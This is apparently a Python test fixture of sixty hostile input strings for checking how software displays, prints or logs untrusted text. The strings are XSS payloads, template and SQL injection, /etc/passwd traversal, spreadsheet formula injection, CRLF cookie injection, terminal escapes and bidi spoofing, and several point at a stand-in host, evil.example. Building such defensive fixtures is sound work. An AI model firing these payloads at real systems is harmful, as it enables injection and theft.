"""Sixty texts that somebody may type, or have typed before anybody refused them: each means something to whoever shows,
prints, lights, keeps or logs it carelessly. A script that runs calls `reached()`.
"""

from __future__ import annotations

import unicodedata

MARKUP: tuple[str, ...] = (
    "<script>reached()</script>",
    '"><script>reached()</script>',
    "'><script>reached()</script>",
    "</script><script>reached()</script>",
    "</title></textarea><script>reached()</script>",
    '<img src="/reached.png" onerror="reached()">',
    '"><img src=x onerror=reached()>',
    "<svg onload=reached()>",
    "<svg><script>reached()</script></svg>",
    "<math><mtext><img src=x onerror=reached()>",
    "<iframe srcdoc='<script>parent.reached()</script>'></iframe>",
    "<iframe src=javascript:parent.reached()>",
    "<object data=javascript:reached()>",
    "<embed src=//evil.example/x>",
    "<details open ontoggle=reached()>",
    "<video><source onerror=reached()>",
    "<body onpageshow=reached()>",
    "<input autofocus onfocus=reached()>",
    '" autofocus onfocus=reached() x="',
    "' onmouseover='reached()",
    "<a href=javascript:reached()>永康</a>",
    "<form action=//evil.example><button>永康",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<!--><img src=x onerror=reached()>-->",
    "&lt;script&gt;reached()&lt;/script&gt;",
    "javascript:reached()",
    "\\u003cscript\\u003ereached()\\u003c/script\\u003e",
)
TEMPLATES: tuple[str, ...] = (
    "${hall} $title $$",
    "{{constructor.constructor('reached()')()}}",
    "{0.__class__} {name} {n}",
    "%(name)s %s %n",
    "$& $` $1",
    "#{7*7} <%= 7*7 %>",
)
ELSEWHERE: tuple[str, ...] = (
    "'; DROP TABLE identity_account; --",
    '" OR ""="',
    "../../../../etc/passwd",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1+1)|cmd",
    "\\C2\\F001\\n\\\\",
    "__proto__",
    "constructor",
)
CONTROLS: tuple[str, ...] = (
    "\x1b@\x1bp\x00\x19\xfa",
    "\x10\x14\x01\x00\x01\x10\x04\x01",
    "\x1dV\x00\x1d(k\x03\x00",
    "\x1b[2J\x1b]0;evil\x07",
    "\x9b31m\x90evil\x9c",
    'a\n{"event": "signed_in", "level": "info"}',
    "a\r\nset-cookie: sid=x\r\n\r\n<script>reached()</script>",
    "a\x00b\x7fc\x85d",
    "a\u2028b\u2029c",
    "\u202egnp.exe",
    "\u2066\u202d永康\u2069\u202c\u2067",
)
SHAPES: tuple[str, ...] = (
    "永" * 300,
    "Z" + "\u0351\u0306\u031a" * 60,
    "👩\u200d👩\u200d👧\u200d👦" * 20,
    "\U0001fbff\U000e0041\U0010fffe\u0378\ufffe",
    "\u200e\u200f\u061c\u200b",
)
PAYLOADS = (*MARKUP, *TEMPLATES, *ELSEWHERE, *CONTROLS, *SHAPES)


def has_controls(text: str) -> bool:
    """Whether something in it acts on more than itself: controls, separators of lines, what turns the direction."""
    turns = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    return any(unicodedata.category(one) in {"Cc", "Zl", "Zp"} or one in turns for one in text)
